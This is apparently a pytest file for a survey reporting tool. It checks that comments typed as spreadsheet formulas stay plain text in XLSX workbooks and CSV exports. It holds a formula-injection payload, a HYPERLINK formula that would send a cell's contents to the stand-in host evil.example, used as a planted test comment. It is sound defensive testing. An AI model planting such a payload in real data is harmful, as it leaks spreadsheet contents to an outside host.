"""A comment typed as a spreadsheet formula stays text in every file we write: the weekly
workbook, and `kentbot export responses` as CSV and XLSX. The comment goes in through the
survey repository, as a finished chat survey saves it."""

from __future__ import annotations

import csv
from datetime import date, datetime, timedelta, timezone
from io import BytesIO

import pytest
from cli_support import seed_for_cli
from comments_sample import BORNOVA, seed
from openpyxl import load_workbook
from test_reports_cli import kentbot

from reports.cell_text import csv_cell
from reports.render_xlsx import render_xlsx
from reports.weekly import build_weekly_report
from storage.repositories import surveys
from surveys.definition import load_shipped

EVIL = '=HYPERLINK("http://evil.example/?"&G3,"Detay")'
TODAY = date(2026, 6, 15)


async def _seed_with_formula(session) -> None:
    await seed(session, TODAY)
    day = TODAY - timedelta(days=6)
    await surveys.save_response(session, surveys.NewResponse(
        survey_id="disability_centre", survey_version=load_shipped()["disability_centre"].version,
        period=f"{day.year}-Q2", respondent_key="key-evil", language="tr", completed_on=day, completed_at=None,
        centre_id=BORNOVA, respondent_role="self", satisfied=True, score=5,
        answers={"role": "self", "centre": BORNOVA, "overall": 5, "comment": EVIL},
    ))


@pytest.fixture
async def seeded(db, monkeypatch, tmp_path, capsys):
    return await seed_for_cli(db, monkeypatch, tmp_path, capsys, _seed_with_formula)


def _no_formula_and_text_kept(content: bytes) -> list[str]:
    """Every sheet of a workbook read back: no cell is a formula; the values of the string cells."""
    book = load_workbook(BytesIO(content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    return [cell.value for cell in cells if cell.data_type == "s"]


async def test_a_comment_typed_as_a_formula_stays_text_in_the_weekly_workbook(seeded) -> None:
    async with seeded.sessions() as session:
        report = await build_weekly_report(session, period_from=date(2026, 1, 1), period_to=TODAY, year=2026,
                                           now=datetime(2026, 6, 15, 12, tzinfo=timezone.utc))
    assert EVIL in [comment.text for comment in report.comments]
    assert EVIL in _no_formula_and_text_kept(render_xlsx(report, "tr"))


async def test_a_comment_typed_as_a_formula_stays_text_in_the_responses_export(seeded, tmp_path) -> None:
    args = ("export", "responses", "--survey", "disability_centre", "--from", "2026-01-01", "--to", "2026-12-31")
    (tmp_path / "out").mkdir()
    for fmt in ("csv", "xlsx"):
        code, _, err = await kentbot(seeded, tmp_path, *args, "--format", fmt, "--out", f"out/d.{fmt}")
        assert code == 0, err
    assert EVIL in _no_formula_and_text_kept((tmp_path / "out/d.xlsx").read_bytes())
    with open(tmp_path / "out/d.csv", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    planted = [row for row in rows if row["comment"].endswith(EVIL)]
    assert [row["comment"] for row in planted] == ["'" + EVIL]  # the quote makes a spreadsheet read it as text
    assert planted[0]["overall"] == "5" and planted[0]["row.number"].isdigit()  # numbers stay numbers


def test_only_text_that_could_start_a_formula_is_quoted_in_a_csv() -> None:
    risky = ["=1+1", "+A1*2", "-cmd", "@SUM(A1)", "\tx", "\rx"]
    assert [csv_cell(value) for value in risky] == ["'" + value for value in risky]
    kept = ["-1.5", "+2", "-3e4", "Bornova", "", "a=b", -7, 2.5, None, True]
    assert [csv_cell(value) for value in kept] == kept
